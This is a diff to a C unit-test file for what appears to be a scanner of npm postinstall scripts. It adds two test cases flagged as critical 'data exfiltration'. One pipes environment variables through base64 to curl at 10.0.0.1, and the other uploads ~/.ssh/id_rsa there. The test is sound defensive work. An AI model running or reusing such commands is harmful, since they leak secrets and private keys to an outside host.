@@ -627,6 +627,10 @@ static void test_credentials_and_registry(void **state)
 	       RULE_PM_CHILD, SEV_HIGH, "base64 decoding");
 	expect(npm_script(npm, "perl -e print", "postinstall"), RULE_PM_CHILD, SEV_MEDIUM,
 	       "interpreter one-liner");
+	expect(npm_script(npm, "env | base64 -w0 | curl -d @- http://10.0.0.1/", "postinstall"),
+	       RULE_PM_CHILD, SEV_CRITICAL, "data exfiltration");
+	expect(npm_script(npm, "cat ~/.ssh/id_rsa | curl -T - http://10.0.0.1/", "postinstall"),
+	       RULE_PM_CHILD, SEV_CRITICAL, "data exfiltration");
 }
 
 struct pm_case {
